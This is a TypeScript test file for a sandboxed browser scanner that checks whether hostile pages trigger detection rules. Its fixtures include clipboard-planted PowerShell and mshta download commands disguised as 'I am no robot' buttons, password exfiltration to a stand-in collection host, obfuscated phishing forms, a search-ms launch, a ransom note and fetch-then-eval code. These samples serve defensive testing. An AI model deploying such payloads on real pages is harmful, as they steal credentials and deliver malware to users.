import { afterAll, describe, expect, test } from 'vitest';
import { Bench } from '../bench/eval/bench.ts';
import { loadEngine } from '../sandbox-runner/engine.ts';
import { guestMachines } from './guest-machines.ts';
import { availableGuests } from './guests.ts';
import { zip } from './samples/binaries.ts';

const offered = await availableGuests(['browser']);
const engine = await loadEngine();
const machines = guestMachines(offered);
afterAll(async () => await engine.close());

const judged = async (body: string | Buffer, fileName = 'page.html') =>
  await new Bench(engine, machines()).judge(typeof body === 'string' ? Buffer.from(page(body)) : body, fileName, null, 60_000);
const page = (body: string) => `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Page</title></head><body>${body}</body></html>`;
const script = (text: string) => `<script>${text}</script>`;
/** Makes a file in the browser and has it saved. `made`: an expression for its bytes. */
const saves = (name: string, made: string) => script(`function save() { const a = document.createElement('a');
  a.href = URL.createObjectURL(new Blob([${made}])); a.download = '${name}'; document.body.append(a); a.click(); }`);
const rulesOf = ({ signals }: Awaited<ReturnType<typeof judged>>) => signals.map(({ rule }) => rule);

describe.skipIf(!offered.includes('browser'))('a page is opened in a browser', () => {
  test.each([
    ['that calculates', `<p id="sum"></p>${script("document.getElementById('sum').textContent = [1, 2, 3].reduce((a, b) => a + b);")}`],
    ['with a button that does something', `<button onclick="this.textContent = 'sorted'">Sort</button>`],
    ['that asks for a name and sends it nowhere', `<input id="name"><button onclick="document.title = name.value">Go</button>`],
    ['whose script needs another one that is not there', script('notThere();')],
    ['that saves a table', `<button onclick="save()">Save</button>${saves('table.csv', "'a,b'")}`],
    ['that draws', `<canvas id="c"></canvas>${script("document.getElementById('c').getContext('2d').fillRect(0, 0, 9, 9);")}`],
    ['that moves all the time', `<p id="p"></p>${script("setInterval(() => { document.getElementById('p').textContent = Date.now(); }, 10);")}`],
  ])('and shows nothing as one %s', async (_what, body) => {
    const one = await judged(body);
    expect(one).toMatchObject({ level: 'UNKNOWN', conditions: { environments: ['browser'], limitations: ['PAGE_TRIED_IN_PART'] }, outcomes: ['ENDED'] });
  });

  test('which finds the page under a name that says nothing', async () => {
    expect(await judged(`<p>x</p>${script('document.title = 1;')}`, 'page.dat')).toMatchObject({ level: 'UNKNOWN', outcomes: ['ENDED'] });
  });

  test('with the scripts that lie beside it in its archive', async () => {
    const one = await judged(zip({
      'site/index.html': page(`<script src="js/a.js"></script>`), 'site/js/a.js': 'setTimeout(save, 1000);', 'site/x.txt': 'x',
      'site/js/b.js': saves('tool.iso', "'x'").replace(/<\/?script>/g, ''), 'site/js/c.js': 'document.title = 1;',
    }), 'site.zip');
    expect(one.conditions.environments).toContain('browser');
  });
});

describe.skipIf(!offered.includes('browser'))('what a page does is seen', () => {
  test.each([
    ['a file that it puts together after half a minute', 'assay-shown-page-made-file', saves('invoice.exe', 'new Uint8Array([77, 90, 1, 2])') + script('setTimeout(save, 30000);')],
    ['one that comes when a button is pressed', 'assay-shown-page-made-file', `<button onclick="save()">Open</button>${saves('scan.iso', "'x'")}`],
    ['a command that it puts into the clipboard', 'assay-shown-page-clipboard-command',
      `<button onclick="navigator.clipboard.writeText(['power', 'shell -w h -c iwr http://a.example'].join(''))">I am no robot</button>`],
    ['one that it copies in the old way', 'assay-shown-page-clipboard-command',
      `<button onclick="c()">Continue</button>${script(`function c() { const t = document.createElement('textarea'); t.value = 'msh' + 'ta http://a.example/x';
        document.body.append(t); t.select(); document.execCommand('copy'); t.remove(); }`)}`],
    ['a password that is sent elsewhere', 'assay-shown-page-password-sent',
      `<input type="password" id="p"><button onclick="fetch('https://collect.example/?' + p.value)">Sign in</button>`],
    ['one that is sent by a form made late', 'assay-shown-page-password-sent',
      script(`setTimeout(() => { document.body.innerHTML = atob('${Buffer.from('<form action="https://collect.example/x" method="post"><input type="password" name="p"><input type="submit"></form>').toString('base64')}'); }, 5000);`)],
    ['a program of Windows that it starts', 'assay-shown-page-other-program', script(`location.href = ['search', 'ms:query=a&crumb=location:%5C%5Ca.example%5Cx'].join('-');`)],
    ['a demand for money that stands in no text of it', 'assay-shown-ransom',
      script(`document.write(atob('${Buffer.from('<h1>Your files have been encrypted</h1><p>Pay 0.1 bitcoin to get the decryption key.</p>').toString('base64')}'));`)],
  ])('%s', async (_what, rule, body) => {
    const one = await judged(body);
    expect(rulesOf(one)).toContain(rule);
    expect(one.level).not.toBe('CLEAN');
  });
});

describe.skipIf(!offered.includes('browser'))('a page that was not seen whole is not CLEAN', () => {
  test.each([
    ['a script from elsewhere', 'PAGE_FROM_ELSEWHERE', '<script src="https://cdn.example/a.js"></script>'],
    ['what it fetches', 'PAGE_FROM_ELSEWHERE', script("fetch('https://a.example/x').then((r) => r.text()).then(eval);")],
    ['a page in it from elsewhere', 'PAGE_FROM_ELSEWHERE', '<iframe src="https://a.example/"></iframe><button>x</button>'],
    ['a page that it goes on to', 'PAGE_FROM_ELSEWHERE', script("location = 'https://a.example/';")],
    ['a loop without an end', 'PAGE_NOT_OPENED', script('for (;;);')],
    ['one that begins when it was loaded', 'PAGE_NOT_OPENED', script('setTimeout(() => { for (;;); }, 1000);')],
    ['more than can be told', 'PAGE_NOT_OPENED', script("for (let n = 0; n < 500; n++) setTimeout(() => window.open('about:blank#' + n), n); for (let n = 0; n < 200; n++) setTimeout(() => alert('note ' + n), 1000 + n);")],
  ])('%s', async (_what, limitation, body) => {
    const one = await judged(body);
    expect(one.level).not.toBe('CLEAN');
    expect(one.conditions.limitations).toContain(limitation);
  });
});
